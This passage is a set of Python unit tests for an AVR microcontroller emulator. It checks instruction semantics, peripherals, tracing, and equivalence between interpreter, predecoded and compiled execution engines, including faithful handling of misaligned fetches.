    assert cpu.data.read_reg(1) == (product >> 8) & 0xFF


@given(byte, byte)
def test_mulsu_mixed(a, b):
    cpu = run_mul(M.MULSU, a, b, rd=16, rr=17)
    sa = a - 0x100 if a & 0x80 else a
    product = (sa * b) & 0xFFFF
    assert cpu.data.read_reg(0) == product & 0xFF
    assert cpu.data.read_reg(1) == (product >> 8) & 0xFF


def test_mul_known_values():
    cpu = run_mul(M.MUL, 200, 100)
    assert cpu.data.read_reg_pair(0) == 20000
    cpu = run_mul(M.MULS, 0xFF, 0x02)  # -1 * 2 = -2
    assert cpu.data.read_reg_pair(0) == 0xFFFE
    assert cpu.sreg.c  # bit 15 set


def test_mul_overwrites_zero_reg():
    """MUL clobbers r1 (GCC's zero register) — callers must clr r1 after."""
    cpu = run_mul(M.MUL, 255, 255)
    assert cpu.data.read_reg(1) != 0


def test_mul_via_parser():
    from repro.asm import link, parse_program
    from repro.asm.linker import MAVR_OPTIONS

    image = link(parse_program("""
.text
.func main inline
    ldi r24, 12
    ldi r18, 11
    mul r24, r18
    sts 0x0400, r0
    sts 0x0401, r1
    clr r1
    break
.endfunc
"""), MAVR_OPTIONS)
    cpu = AvrCpu()
    cpu.load_program(image.code)
    cpu.reset()
    cpu.run(100)
    assert cpu.data.read(0x400) | (cpu.data.read(0x401) << 8) == 132
    assert cpu.data.read_reg(1) == 0
