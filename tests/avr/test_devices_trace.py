"""USART, feed-line, and tracing peripherals."""

from repro.avr import (
    AvrCpu,
    ExecutionTrace,
    FeedLine,
    Instruction,
    Mnemonic,
    Usart,
    encode_stream,
    snapshot_stack,
)
from repro.avr.iospace import (
    FEED_BIT,
    FEED_PORT,
    RXC_BIT,
    UCSR0A_DATA,
    UDR0_DATA,
    UDRE_BIT,
)

I = Instruction
M = Mnemonic


def build_cpu(insns):
    cpu = AvrCpu()
    cpu.load_program(encode_stream(list(insns) + [I(M.BREAK)]))
    cpu.reset()
    return cpu


def test_usart_rx_status_and_read():
    # poll UCSR0A, read UDR0 into r16
    cpu = build_cpu([
        I(M.LDS, rd=17, k=UCSR0A_DATA),
        I(M.LDS, rd=16, k=UDR0_DATA),
    ])
    usart = Usart(cpu)
    usart.feed_bytes(b"\xfe")
    cpu.run(10)
    assert cpu.data.read_reg(17) & (1 << RXC_BIT)
    assert cpu.data.read_reg(17) & (1 << UDRE_BIT)
    assert cpu.data.read_reg(16) == 0xFE


def test_usart_rx_empty_status():
    cpu = build_cpu([I(M.LDS, rd=17, k=UCSR0A_DATA)])
    Usart(cpu)
    cpu.run(10)
    assert not cpu.data.read_reg(17) & (1 << RXC_BIT)


def test_usart_tx_collects_writes():
    cpu = build_cpu([
        I(M.LDI, rd=16, k=0x41),
        I(M.STS, rr=16, k=UDR0_DATA),
        I(M.LDI, rd=16, k=0x42),
        I(M.STS, rr=16, k=UDR0_DATA),
    ])
    usart = Usart(cpu)
    cpu.run(20)
    assert usart.take_tx() == b"AB"
    assert usart.take_tx() == b""  # drained


def test_feed_line_records_toggles():
    cpu = build_cpu([
        I(M.LDI, rd=16, k=1 << FEED_BIT),
        I(M.OUT, a=FEED_PORT, rr=16),
        I(M.LDI, rd=16, k=0),
        I(M.OUT, a=FEED_PORT, rr=16),
        I(M.LDI, rd=16, k=1 << FEED_BIT),
        I(M.OUT, a=FEED_PORT, rr=16),
    ])
    feed = FeedLine(cpu)
    cpu.run(20)
    assert len(feed.events) == 3
    assert feed.last_feed_cycle is not None
    assert feed.toggles_since(0) == 3


def test_feed_line_ignores_non_toggle_writes():
    cpu = build_cpu([
        I(M.LDI, rd=16, k=1 << FEED_BIT),
        I(M.OUT, a=FEED_PORT, rr=16),
        I(M.OUT, a=FEED_PORT, rr=16),  # same level: no new event
    ])
    feed = FeedLine(cpu)
    cpu.run(20)
    assert len(feed.events) == 1


def test_execution_trace_records_observables():
    cpu = build_cpu([
        I(M.LDI, rd=16, k=0x99),
        I(M.STS, rr=16, k=0x0400),
    ])
    trace = ExecutionTrace()
    trace.attach(cpu)
    cpu.run(10)
    assert (0x0400, 0x99) in trace.io_writes
    assert trace.mnemonic_counts()[M.LDI] == 1


def test_stack_snapshot_hexdump():
    cpu = build_cpu([I(M.LDI, rd=16, k=0xAA), I(M.PUSH, rr=16)])
    cpu.run(10)
    snap = snapshot_stack(cpu, "after push", window=4)
    assert snap.data[0] == 0xAA
    dump = snap.hexdump()
    assert "0xAA" in dump
    assert dump.startswith("0x")
