"""Ring-buffer mode for ExecutionTrace / CpuStateStream (bounded memory)."""

from repro.avr import AvrCpu, ExecutionTrace, Instruction, Mnemonic, encode_stream
from repro.avr.trace import CpuStateStream

I = Instruction
M = Mnemonic


def run_program(n_nops, **trace_kwargs):
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(M.NOP)] * n_nops + [I(M.BREAK)]))
    cpu.reset()
    trace = ExecutionTrace(**trace_kwargs)
    trace.attach(cpu)
    stream = CpuStateStream(
        max_entries=trace_kwargs.get("max_entries")
    ).attach(cpu)
    cpu.run(n_nops + 5)
    return trace, stream


def test_default_mode_keeps_first():
    trace, stream = run_program(10)
    assert len(trace.instructions) == 11  # 10 nops + break
    assert len(stream.states) == 11


def test_max_instructions_caps_keep_first():
    trace, _ = run_program(10, max_instructions=3)
    assert len(trace.instructions) == 3
    # the earliest retires survive (what equivalence checks want)
    assert trace.instructions[0][0] == 0


def test_ring_mode_keeps_last():
    trace, stream = run_program(10, max_entries=4)
    assert len(trace.instructions) == 4
    assert len(stream.states) == 4
    # the newest retires survive: the final entry is the BREAK at pc 10*2
    assert trace.instructions[-1][1].mnemonic is M.BREAK
    assert trace.instructions[0][0] > 0  # early entries were evicted
    assert stream.states[-1][0] == 10 * 2


def test_ring_mode_never_grows_past_cap():
    trace, stream = run_program(50, max_entries=8)
    assert len(trace.instructions) == 8
    assert len(stream.states) == 8


def test_ring_mode_mnemonic_counts_still_work():
    trace, _ = run_program(10, max_entries=4)
    counts = trace.mnemonic_counts()
    assert counts[M.NOP] == 3
    assert counts[M.BREAK] == 1
