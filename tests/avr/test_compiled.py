"""Unit coverage for the compiled superblock engine (:mod:`repro.avr.compiled`).

The contract under test: exec-generated block bodies are *observably
identical* to per-instruction retirement — identical flag algebra on
randomized ALU programs, interrupts serviced at the exact same points,
identical crashes with identical fault state, no stale compiled code
after a flash write — while the codegen machinery itself (warm
threshold, compile budget, cache eviction, liveness elision, trace-hook
degradation) behaves as documented.
"""

import random

import pytest

from repro.avr import (
    AvrCpu,
    CompiledEngine,
    CpuStateStream,
    Instruction,
    Mnemonic,
    diff_state_streams,
    encode,
    encode_stream,
)
from repro.avr.blocks import WRITE_CAPABLE
from repro.avr.compiled import SOURCE_TEMPLATES
from repro.avr.engine import ENGINES, HANDLERS
from repro.errors import CpuFault, IllegalExecutionError

I = Instruction
M = Mnemonic

HOOK_ADDR = 0x0300  # an ordinary SRAM byte, hooked like a peripheral register


def _cpu(program, engine="compiled", setup=None, warm=None):
    cpu = AvrCpu(engine=engine)
    cpu.load_program(encode_stream(program))
    cpu.reset()
    if warm is not None and isinstance(cpu.engine, CompiledEngine):
        cpu.engine.WARM_THRESHOLD = warm
    if setup:
        setup(cpu)
    return cpu


def _state(cpu):
    return (
        cpu.pc,
        cpu.data.sp,
        cpu.sreg.byte,
        cpu.cycles,
        cpu.instructions_retired,
        cpu.halted,
        bytes(cpu.data.read_reg(r) for r in range(32)),
    )


def _hot_loop(body_len=6):
    body = [I(M.INC, rd=16 + (i % 4)) for i in range(body_len)]
    return body + [I(M.RJMP, k=-(body_len + 1))]


# -- registry / template table -------------------------------------------


def test_compiled_engine_registered_and_selectable():
    assert ENGINES["compiled"] is CompiledEngine
    cpu = AvrCpu(engine="compiled")
    assert cpu.engine_name == "compiled"
    assert isinstance(cpu.engine, CompiledEngine)


def test_templates_cover_only_fusable_body_mnemonics():
    # every template shadows a real handler, and no store/out/push ever
    # gets a template — those must keep their hook-visible handler path
    assert set(SOURCE_TEMPLATES) <= set(HANDLERS)
    assert not (WRITE_CAPABLE & set(SOURCE_TEMPLATES))


# -- warm threshold and compile budget ------------------------------------


def test_blocks_compile_only_after_warm_threshold_entries():
    cpu = _cpu(_hot_loop(6))  # default WARM_THRESHOLD == 2
    engine = cpu.engine
    cpu.run(7)  # first entry: cold, runs through the shared blocks path
    assert engine.compiled_built == 0
    assert engine.compiled_entered == 0
    assert engine.blocks_entered == 1
    cpu.run(7)  # second entry: compiles and runs the generated callable
    assert engine.compiled_built == 1
    assert engine.compiled_entered == 1
    cpu.run(70)  # reused, never rebuilt
    assert engine.compiled_built == 1
    assert engine.compiled_entered == 11


def test_zero_compile_budget_degrades_to_blocks_path_bit_exact():
    reference = _cpu(_hot_loop(6), engine="interpreter")
    subject = _cpu(_hot_loop(6), warm=1)
    subject.engine.COMPILE_BUDGET_S = 0.0
    assert reference.run(70) == subject.run(70) == 70
    assert _state(subject) == _state(reference)
    assert subject.engine.compiled_built == 0
    assert subject.engine.compiled_entered == 0
    assert subject.engine.blocks_entered == 10


# -- generated source shape -----------------------------------------------


def test_generated_source_folds_terminator_and_elides_dead_flags():
    program = [
        I(M.ADD, rd=16, rr=17),  # every flag overwritten before any read
        I(M.ADD, rd=16, rr=17),  # H/C survive (inc only writes Z/N/V/S)
        I(M.INC, rd=20),
        I(M.RJMP, k=-4),
    ]
    cpu = _cpu(program, warm=1)
    cpu.run(8)
    [cb] = cpu.engine._compiled.values()
    source = cb.source
    assert cb.fn is not None
    # inline terminator: jump target and retire count folded to constants,
    # no handler call left in the body
    assert "cpu.pc = 0" in source
    assert "cpu.instructions_retired += 4" in source
    assert "_ht" not in source
    # liveness elision: only the second add's H/C and the inc's Z survive
    assert source.count("fh =") == 1
    assert source.count("fc =") == 1
    assert source.count("fz =") == 1


# -- randomized flag-algebra parity ---------------------------------------


def _random_alu_program(rng, length=48):
    program = []
    for _ in range(length):
        pick = rng.randrange(9)
        if pick == 0:
            program.append(I(M.LDI, rd=rng.randrange(16, 32), k=rng.randrange(256)))
        elif pick == 1:
            mnemonic = rng.choice([M.MOV, M.ADD, M.ADC, M.SUB, M.SBC, M.AND,
                                   M.OR, M.EOR, M.CP, M.CPC, M.MUL])
            program.append(I(mnemonic, rd=rng.randrange(32), rr=rng.randrange(32)))
        elif pick == 2:
            mnemonic = rng.choice([M.SUBI, M.SBCI, M.ANDI, M.ORI, M.CPI])
            program.append(I(mnemonic, rd=rng.randrange(16, 32), k=rng.randrange(256)))
        elif pick == 3:
            mnemonic = rng.choice([M.INC, M.DEC, M.COM, M.NEG, M.LSR, M.ASR,
                                   M.ROR, M.SWAP])
            program.append(I(mnemonic, rd=rng.randrange(32)))
        elif pick == 4:
            mnemonic = rng.choice([M.ADIW, M.SBIW])
            program.append(I(mnemonic, rd=rng.choice([24, 26, 28, 30]),
                             k=rng.randrange(64)))
        elif pick == 5:
            mnemonic = rng.choice([M.BST, M.BLD])
            program.append(I(mnemonic, rd=rng.randrange(32), b=rng.randrange(8)))
        elif pick == 6:
            program.append(I(rng.choice([M.BSET, M.BCLR]), b=rng.randrange(8)))
        elif pick == 7:
            program.append(I(M.MOVW, rd=rng.randrange(0, 32, 2),
                             rr=rng.randrange(0, 32, 2)))
        else:
            program.append(I(M.NOP))
    program.append(I(M.BREAK))
    return program


@pytest.mark.parametrize("seed", range(8))
def test_randomized_alu_programs_retire_bit_exact(seed):
    """The inlined flag formulas agree with the handlers on random mixes —
    including blocks cut at the fuse cap (handler-call pseudo-terminator)."""
    program = _random_alu_program(random.Random(seed))
    reference = _cpu(program, engine="interpreter")
    subject = _cpu(program, warm=1)
    reference.run(1_000)
    subject.run(1_000)
    assert reference.halted and subject.halted
    assert subject.engine.compiled_built > 0
    assert _state(subject) == _state(reference)


# -- interrupt latency ----------------------------------------------------


def _interrupt_program():
    """A store whose write hook latches vectors 3 then 2 mid-execution."""
    return [
        I(M.JMP, k=8),                    # vector 0 -> main
        I(M.NOP), I(M.NOP),               # words 2-3 (vector slot padding)
        I(M.LDI, rd=20, k=1),             # vector 2 handler (word 4)
        I(M.RETI),
        I(M.MOV, rd=21, rr=20),           # vector 3 handler (word 6)
        I(M.RETI),
        I(M.BSET, b=7),                   # main (word 8): sei
        I(M.LDI, rd=26, k=HOOK_ADDR & 0xFF),
        I(M.LDI, rd=27, k=HOOK_ADDR >> 8),
        I(M.ST_X, rr=0),                  # hook latches both interrupts
        I(M.INC, rd=16), I(M.INC, rd=16), I(M.INC, rd=16),
        I(M.INC, rd=16), I(M.INC, rd=16), I(M.INC, rd=16),
        I(M.BREAK),
    ]


def _arm_interrupt_hook(cpu):
    def hook(address, value):
        cpu.request_interrupt(3)
        cpu.request_interrupt(2)
        return None

    cpu.data.add_write_hook(HOOK_ADDR, hook)


def test_interrupt_latched_mid_compiled_block_serviced_with_priority():
    states = {}
    for engine in ("interpreter", "compiled"):
        cpu = _cpu(_interrupt_program(), engine=engine,
                   setup=_arm_interrupt_hook, warm=1)
        cpu.run(100)
        assert cpu.halted
        assert cpu.interrupts_serviced == 2
        # vector 2 (higher priority) serviced before vector 3: the copy in
        # vector 3's handler saw the marker vector 2's handler loaded
        assert cpu.data.read_reg(20) == 1
        assert cpu.data.read_reg(21) == 1
        states[engine] = _state(cpu)
    # exact-latency: compiled execution serviced at the very same points
    assert states["compiled"] == states["interpreter"]


def test_sei_terminates_compiled_block_so_latency_stays_exact():
    """sei is folded inline but still ends its block: a pending interrupt
    is serviced at the first boundary after it, before any filler runs."""
    program = [
        I(M.JMP, k=8),
        I(M.NOP), I(M.NOP),
        I(M.LDI, rd=20, k=1),             # vector 2 handler
        I(M.RETI),
        I(M.NOP), I(M.NOP),
        I(M.BSET, b=7),                   # main (word 8): sei
        *[I(M.INC, rd=16) for _ in range(32)],
        I(M.BREAK),
    ]
    cpu = _cpu(program, warm=1)
    cpu.request_interrupt(2)
    cpu.run(3)
    assert cpu.interrupts_serviced == 1
    assert cpu.data.read_reg(20) == 1


# -- generation fence and cache eviction ----------------------------------


def test_spm_write_mid_run_invalidates_compiled_blocks():
    """A store hook rewrites an already-compiled instruction word; the
    stale callable must never execute again (the reflash safety rule)."""
    new_word = encode(I(M.LDI, rd=16, k=99))[0]
    program = [
        I(M.LDI, rd=26, k=HOOK_ADDR & 0xFF),   # word 0
        I(M.LDI, rd=27, k=HOOK_ADDR >> 8),     # word 1
        I(M.ST_X, rr=0),                       # word 2: hook may reflash
        I(M.INC, rd=16),                       # word 3: the rewrite target
        I(M.BREAK),                            # word 4
    ]
    states = {}
    for engine in ("interpreter", "compiled"):
        cpu = _cpu(program, engine=engine, warm=1)
        armed = [False]

        def hook(address, value, cpu=cpu, armed=armed):
            if armed[0]:
                cpu.flash.write_word(3, new_word)
            return None

        cpu.data.add_write_hook(HOOK_ADDR, hook)
        # first pass, hook disarmed: compiles the block holding `inc r16`
        cpu.run(100)
        assert cpu.halted and cpu.data.read_reg(16) == 1
        if engine == "compiled":
            assert cpu.engine._compiled[3].fn is not None
        # second pass: the store rewrites word 3 under the compiled block
        armed[0] = True
        cpu.reset()
        cpu.run(100)
        assert cpu.halted
        # stale code would have executed `inc` (r16 == 2); the fence
        # forces a recompile and the new `ldi r16, 99` runs instead
        assert cpu.data.read_reg(16) == 99
        states[engine] = _state(cpu)
    assert states["compiled"] == states["interpreter"]


def test_repeated_reflash_does_not_grow_the_compiled_cache():
    """Every generation change evicts: N reflash cycles leave exactly the
    live blocks compiled, never an accumulation of stale callables."""
    cpu = _cpu(_hot_loop(6), warm=1)
    engine = cpu.engine
    for generation in range(8):
        cpu.run(70)
        assert len(engine._compiled) == 1  # one live block, nothing stale
        # reflash word 0 in place (same instruction, new generation)
        cpu.flash.write_word(0, encode(I(M.INC, rd=16))[0])
        cpu.reset()
    # each generation recompiled its block from scratch: eviction, not reuse
    assert engine.compiled_built == 8
    assert len(engine.compile_times_ms) == 8


# -- misaligned entry (the ROP gadget property) ---------------------------


def test_misaligned_entry_compiles_its_own_block():
    raw = encode_stream([I(M.CALL, k=0), I(M.BREAK)])
    states = {}
    for engine in ("interpreter", "compiled"):
        cpu = AvrCpu(engine=engine)
        cpu.load_program(raw)
        cpu.reset()
        if engine == "compiled":
            cpu.engine.WARM_THRESHOLD = 1
        cpu.run(3)  # aligned: three recursive `call 0`s
        assert cpu.instructions_retired == 3
        cpu.pc = 1  # jump into the second word of the call
        cpu.run(10)
        assert cpu.halted
        states[engine] = _state(cpu)
    assert states["compiled"] == states["interpreter"]

    cpu = _cpu([I(M.CALL, k=0), I(M.BREAK)], warm=1)
    cpu.run(3)
    cpu.pc = 1
    cpu.run(10)
    compiled = cpu.engine._compiled
    assert compiled[0].count == 1        # [call] — control flow terminates
    assert compiled[1].count == 2        # [nop, break] compiled from word 1
    assert cpu.engine.compiled_built == 2


# -- budget exactness -----------------------------------------------------


def test_run_budget_is_exact_even_mid_compiled_block():
    for budget in (1, 2, 6, 7, 13, 37):
        reference = _cpu(_hot_loop(6), engine="interpreter")
        subject = _cpu(_hot_loop(6), warm=1)
        assert reference.run(budget) == budget
        assert subject.run(budget) == budget
        assert _state(subject) == _state(reference), budget


# -- trace hooks degrade to exact per-instruction retirement --------------


def test_trace_hooks_force_per_instruction_fallback():
    reference = _cpu(_interrupt_program(), engine="interpreter",
                     setup=_arm_interrupt_hook)
    subject = _cpu(_interrupt_program(), engine="compiled",
                   setup=_arm_interrupt_hook, warm=1)
    ref_stream = CpuStateStream().attach(reference)
    sub_stream = CpuStateStream().attach(subject)
    reference.run(100)
    subject.run(100)
    assert subject.halted
    divergence = diff_state_streams(ref_stream, sub_stream)
    assert divergence is None, divergence
    # neither the compiled nor the fused fast path ran under a hook
    assert subject.engine.compiled_entered == 0
    assert subject.engine.blocks_entered == 0


def test_compilation_resumes_after_hooks_detach():
    cpu = _cpu(_hot_loop(6), warm=1)
    stream = CpuStateStream().attach(cpu)
    cpu.run(14)
    assert cpu.engine.compiled_built == 0
    cpu.trace_hooks.remove(stream._on_retire)
    cpu.run(14)
    assert cpu.engine.compiled_built == 1
    assert cpu.engine.compiled_entered > 0


# -- crash parity ---------------------------------------------------------


def test_out_of_image_and_undecodable_crash_parity():
    for raw in (b"\xff\xff", encode_stream([I(M.NOP)])):
        errors = []
        for engine in ("interpreter", "compiled"):
            cpu = AvrCpu(engine=engine)
            cpu.load_program(raw)
            cpu.reset()
            with pytest.raises(IllegalExecutionError) as excinfo:
                cpu.run(10)
            errors.append(str(excinfo.value))
        assert errors[0] == errors[1]


def test_mid_block_callout_fault_reconstructs_exact_state():
    # `lds` reads out of the data space mid-body; the compiled callable
    # raises through CompiledBodyFault and the engine must reconstruct the
    # per-instruction fault address, cycle count and retire count exactly
    program = [
        I(M.LDI, rd=16, k=5),          # word 0
        I(M.LDS, rd=17, k=0xBEEF),     # words 1-2: out-of-range read
        I(M.INC, rd=16),
        I(M.BREAK),
    ]
    faults = {}
    for engine in ("interpreter", "compiled"):
        cpu = _cpu(program, engine=engine, warm=1)
        with pytest.raises(CpuFault) as excinfo:
            cpu.run(10)
        fault = excinfo.value
        faults[engine] = (str(fault), fault.pc, fault.cycles,
                          cpu.pc, cpu.cycles, cpu.instructions_retired)
    assert faults["compiled"] == faults["interpreter"]
    assert faults["compiled"][1] == 2  # byte address of the faulting lds


def test_terminator_fault_reconstructs_exact_state():
    # the block's terminator faults: st through X at an invalid address
    program = [
        I(M.LDI, rd=26, k=0xFF),
        I(M.LDI, rd=27, k=0xFF),
        I(M.ST_X, rr=0),
    ]
    faults = {}
    for engine in ("interpreter", "compiled"):
        cpu = _cpu(program, engine=engine, warm=1)
        with pytest.raises(CpuFault) as excinfo:
            cpu.run(10)
        fault = excinfo.value
        faults[engine] = (str(fault), fault.pc, fault.cycles,
                          cpu.pc, cpu.cycles, cpu.instructions_retired)
    assert faults["compiled"] == faults["interpreter"]


# -- telemetry ------------------------------------------------------------


def test_compiled_metrics_reach_the_telemetry_snapshot(testapp):
    """avr.compiled.* gauges + the compile-time histogram are sampled
    pull-style at snapshot time when the protected board runs compiled."""
    from repro.core import MavrSystem
    from repro.telemetry import Telemetry

    tel = Telemetry(enabled=True)
    system = MavrSystem(testapp, seed=7, telemetry=tel, engine="compiled")
    system.boot()
    system.run(5)
    engine = system.autopilot.cpu.engine
    assert engine.compiled_built > 0

    registry = tel.registry
    registry.snapshot()  # collectors are pull-style: sample now
    built = registry.value("avr.compiled.built", component="cpu")
    entered = registry.value("avr.compiled.entered", component="cpu")
    assert built == engine.compiled_built > 0
    assert entered == engine.compiled_entered > built  # callables are reused
    [histogram] = registry.find("avr.compiled.compile_ms", component="cpu")
    assert histogram.count == engine.compiled_built
    assert histogram.min > 0
    # a second snapshot must not re-observe builds already folded in
    registry.snapshot()
    assert histogram.count == engine.compiled_built
