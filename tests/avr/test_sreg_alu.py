"""Status register packing and ALU flag semantics."""

from hypothesis import given
from hypothesis import strategies as st

from repro.avr import StatusRegister
from repro.avr import alu

byte = st.integers(0, 255)


@given(byte)
def test_sreg_pack_unpack_roundtrip(value):
    sreg = StatusRegister()
    sreg.byte = value
    assert sreg.byte == value


def test_sreg_bit_access():
    sreg = StatusRegister()
    sreg.set_bit(1, True)  # Z
    assert sreg.z
    assert sreg.get_bit(1)
    sreg.set_bit(1, False)
    assert not sreg.z


def test_sreg_copy_is_independent():
    a = StatusRegister()
    a.c = True
    b = a.copy()
    b.c = False
    assert a.c and not b.c


@given(byte, byte)
def test_add_matches_reference(rd, rr):
    sreg = StatusRegister()
    result = alu.add(sreg, rd, rr)
    assert result == (rd + rr) & 0xFF
    assert sreg.c == (rd + rr > 0xFF)
    assert sreg.z == (result == 0)
    assert sreg.n == bool(result & 0x80)


@given(byte, byte)
def test_sub_matches_reference(rd, rr):
    sreg = StatusRegister()
    result = alu.sub(sreg, rd, rr)
    assert result == (rd - rr) & 0xFF
    assert sreg.c == (rd < rr)
    assert sreg.z == (result == 0)


def test_overflow_flag_add():
    sreg = StatusRegister()
    alu.add(sreg, 0x7F, 0x01)  # 127 + 1 overflows signed
    assert sreg.v
    assert sreg.n
    assert not sreg.s  # S = N xor V


def test_overflow_flag_sub():
    sreg = StatusRegister()
    alu.sub(sreg, 0x80, 0x01)  # -128 - 1 overflows signed
    assert sreg.v


def test_half_carry():
    sreg = StatusRegister()
    alu.add(sreg, 0x0F, 0x01)
    assert sreg.h


def test_sbc_keep_z_rule():
    """SBC only clears Z (for multi-byte compares), never sets it."""
    sreg = StatusRegister()
    sreg.z = True
    alu.sub(sreg, 5, 5, carry_in=False, keep_z=True)
    assert sreg.z  # result 0 leaves Z as-is
    alu.sub(sreg, 6, 5, carry_in=False, keep_z=True)
    assert not sreg.z  # nonzero result clears it


@given(byte)
def test_com_neg(value):
    sreg = StatusRegister()
    assert alu.com(sreg, value) == (~value) & 0xFF
    assert sreg.c
    assert alu.neg(sreg, value) == (-value) & 0xFF


@given(byte)
def test_inc_dec_inverse(value):
    sreg = StatusRegister()
    assert alu.dec(sreg, alu.inc(sreg, value)) == value


def test_inc_dec_overflow_values():
    sreg = StatusRegister()
    alu.inc(sreg, 0x7F)
    assert sreg.v
    alu.dec(sreg, 0x80)
    assert sreg.v


@given(byte)
def test_lsr_shifts(value):
    sreg = StatusRegister()
    assert alu.lsr(sreg, value) == value >> 1
    assert sreg.c == bool(value & 1)


def test_asr_keeps_sign():
    sreg = StatusRegister()
    assert alu.asr(sreg, 0x81) == 0xC0
    assert sreg.c


def test_ror_rotates_through_carry():
    sreg = StatusRegister()
    sreg.c = True
    assert alu.ror(sreg, 0x00) == 0x80
    assert not sreg.c


@given(st.integers(0, 0xFFFF), st.integers(0, 63))
def test_adiw_sbiw_roundtrip(pair, k):
    sreg = StatusRegister()
    up = alu.adiw(sreg, pair, k)
    assert up == (pair + k) & 0xFFFF
    down = alu.sbiw(sreg, up, k)
    assert down == pair


def test_adiw_carry():
    sreg = StatusRegister()
    alu.adiw(sreg, 0xFFFF, 1)
    assert sreg.c
    assert sreg.z
