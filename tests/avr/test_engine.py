"""Unit coverage for the execution engines.

The contract under test: the predecoded engine is *observably identical*
to the reference interpreter — same architectural state per retired
instruction, same crashes with the same messages — while never executing
a decode that is stale with respect to the current flash contents.
"""

import pytest

from repro.avr import (
    AvrCpu,
    FlashMemory,
    Instruction,
    Mnemonic,
    encode,
    encode_stream,
    run_lockstep,
)
from repro.avr.engine import CYCLES_BY_MNEMONIC, ENGINES, HANDLERS
from repro.errors import CpuFault, IllegalExecutionError, LockstepDivergenceError

I = Instruction
M = Mnemonic


def _pair(program, max_instructions=10_000, setup=None):
    """Run ``program`` on both engines; return (interpreter, predecoded)."""
    cpus = []
    for engine in ("interpreter", "predecoded"):
        cpu = AvrCpu(engine=engine)
        cpu.load_program(encode_stream(program))
        cpu.reset()
        if setup:
            setup(cpu)
        cpus.append(cpu)
    return cpus


# -- dispatch table ------------------------------------------------------


def test_every_mnemonic_has_handler_and_cycle_cost():
    assert set(HANDLERS) == set(Mnemonic)
    assert set(CYCLES_BY_MNEMONIC) == set(Mnemonic)


def test_unknown_engine_name_rejected():
    with pytest.raises(ValueError, match="unknown execution engine"):
        AvrCpu(engine="jit")
    assert sorted(ENGINES) == ["blocks", "compiled", "interpreter", "predecoded"]


# -- flash generation counter -------------------------------------------


def test_generation_bumps_on_every_write_path():
    flash = FlashMemory()
    start = flash.generation
    flash.load(b"\x00\x00")
    after_load = flash.generation
    assert after_load > start
    flash.write_page(0, b"\x12\x34")
    after_page = flash.generation
    assert after_page > after_load
    flash.write_word(0, 0x9508)
    after_word = flash.generation
    assert after_word > after_page
    flash.erase()
    assert flash.generation > after_word


def test_reads_do_not_bump_generation():
    flash = FlashMemory()
    flash.load(b"\x00\x00\x08\x95")
    generation = flash.generation
    flash.read_byte(0)
    flash.read_word(1)
    flash.dump(0, 4)
    assert flash.generation == generation


# -- lockstep equivalence ------------------------------------------------


def test_lockstep_mixed_program():
    """ALU + stack + control flow + loads/stores agree step for step."""
    program = [
        I(M.LDI, rd=16, k=200), I(M.LDI, rd=17, k=100),
        I(M.ADD, rd=16, rr=17),          # carry out
        I(M.ADC, rd=17, rr=16),
        I(M.PUSH, rr=16), I(M.PUSH, rr=17),
        I(M.RCALL, k=3),                 # over the next three words
        I(M.POP, rd=18), I(M.POP, rd=19),
        I(M.RJMP, k=2),
        I(M.SUBI, rd=16, k=1),           # subroutine body
        I(M.RET),
        I(M.LDI, rd=26, k=0x00), I(M.LDI, rd=27, k=0x03),  # X = 0x0300
        I(M.ST_X_INC, rr=16), I(M.ST_X, rr=17),
        I(M.LD_X_DEC, rd=20),
        I(M.CPI, rd=16, k=0),
        I(M.BRBS, b=1, k=1),             # breq over the inc
        I(M.INC, rd=21),
        I(M.BREAK),
    ]
    reference, subject = _pair(program)
    run_lockstep(reference, subject)
    assert reference.halted and subject.halted
    assert reference.instructions_retired == subject.instructions_retired


def test_lockstep_interrupts():
    def arm(cpu):
        cpu.sreg.i = True
        cpu.request_interrupt(2)

    program = [
        I(M.JMP, k=8),                   # vector 0: jump to main
        I(M.NOP), I(M.NOP),
        I(M.RETI),                       # vector 2 handler at word 4
        I(M.NOP), I(M.NOP), I(M.NOP),
        I(M.NOP),
        I(M.LDI, rd=16, k=5),            # main at word 8
        I(M.DEC, rd=16),
        I(M.BRBC, b=1, k=-2),
        I(M.BREAK),
    ]
    reference, subject = _pair(program, setup=arm)
    run_lockstep(reference, subject)
    assert reference.interrupts_serviced == subject.interrupts_serviced == 1


def test_lockstep_detects_seeded_divergence():
    """The harness itself must catch a real mismatch, not just pass."""
    program = [I(M.LDI, rd=16, k=1), I(M.BREAK)]
    reference, subject = _pair(program)
    subject.cycles += 7  # sabotage
    with pytest.raises(LockstepDivergenceError, match="cycles"):
        run_lockstep(reference, subject)


# -- crash parity --------------------------------------------------------


def test_crash_parity_undecodable_and_out_of_image():
    # 0xFFFF does not decode; walking past code_limit is a crash too.
    for raw in (b"\xff\xff", encode_stream([I(M.NOP)])):
        errors = []
        for engine in ("interpreter", "predecoded"):
            cpu = AvrCpu(engine=engine)
            cpu.load_program(raw)
            cpu.reset()
            with pytest.raises(IllegalExecutionError) as excinfo:
                cpu.run(10)
            errors.append(str(excinfo.value))
        assert errors[0] == errors[1]


def test_crash_parity_memory_fault():
    # lds from far outside the data space faults identically.
    program = [I(M.LDI, rd=30, k=0xFF), I(M.LDI, rd=31, k=0xFF),
               I(M.LD_Z_INC, rd=4), I(M.BREAK)]

    def hoist_sp(cpu):
        cpu.data.sp = 0x21F0

    messages = []
    for cpu in _pair(program, setup=hoist_sp):
        with pytest.raises(CpuFault) as excinfo:
            cpu.run(10)
        messages.append(str(excinfo.value))
    assert messages[0] == messages[1]


# -- misaligned execution (the gadget-finder property) -------------------


def test_misaligned_fetch_decodes_second_word_independently():
    # call 0x0000 encodes as 0x940E 0x0000; landing on the second word
    # must decode it as its own instruction (nop), same on both engines.
    raw = encode_stream([I(M.CALL, k=0), I(M.BREAK)])
    for engine in ("interpreter", "predecoded"):
        cpu = AvrCpu(engine=engine)
        cpu.load_program(raw)
        cpu.reset()
        cpu.pc = 1  # inside the call
        insn = cpu.step()
        assert insn.mnemonic is M.NOP, engine


# -- cache invalidation --------------------------------------------------


def test_stale_decode_never_executes_after_reprogram():
    """Reprogramming the same addresses must execute the *new* words."""
    cpu = AvrCpu(engine="predecoded")
    cpu.load_program(encode_stream([I(M.LDI, rd=16, k=1), I(M.BREAK)]))
    cpu.reset()
    cpu.run(10)
    assert cpu.data.read_reg(16) == 1

    # Same length, same addresses, different immediate: a stale cache
    # would happily run the old ldi again.
    cpu.load_program(encode_stream([I(M.LDI, rd=16, k=2), I(M.BREAK)]))
    cpu.reset()
    cpu.run(10)
    assert cpu.data.read_reg(16) == 2


